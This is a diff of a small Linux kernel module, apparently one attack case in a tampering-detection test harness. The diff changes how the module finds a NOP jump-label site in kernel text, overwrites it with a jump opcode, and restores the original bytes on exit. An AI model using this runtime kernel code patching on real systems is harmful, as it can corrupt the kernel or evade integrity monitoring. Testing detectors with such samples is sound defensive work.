@@ -13,8 +13,9 @@ KERNEL_SYMBOL(__stop___jump_table);
 KERNEL_SYMBOL(_stext);
 KERNEL_SYMBOL(_etext);
 
-static const u8 nop[5] = {0x0f, 0x1f, 0x44, 0x00, 0x00}, jump[5] = {0xe9};
-static u8 *site;
+/* As 5.10 has it on some processors, and all others. */
+static const u8 nops[2][5] = {{0x66, 0x66, 0x66, 0x66, 0x90}, {0x0f, 0x1f, 0x44, 0x00, 0x00}}, jump[5] = {0xe9};
+static u8 *site, original[5];
 
 static int __init start(void)
 {
@@ -25,9 +26,12 @@ static int __init start(void)
 	for (; (unsigned long)entry < __stop___jump_table_at; ++entry) {
 		unsigned long code = jump_entry_code(entry);
 
-		if (code < _stext_at || code + 5 > _etext_at || memcmp((void *)code, nop, 5) != 0)
+		if (code < _stext_at || code + 5 > _etext_at)
+			continue;
+		if (memcmp((void *)code, nops[0], 5) != 0 && memcmp((void *)code, nops[1], 5) != 0)
 			continue;
 		site = (u8 *)code;
+		memcpy(original, site, 5);
 		write_protected(site, jump, 5);
 		return 0;
 	}
@@ -36,7 +40,7 @@ static int __init start(void)
 
 static void __exit stop(void)
 {
-	write_protected(site, nop, 5);
+	write_protected(site, original, 5);
 }
 
 ATTACK(start, stop);
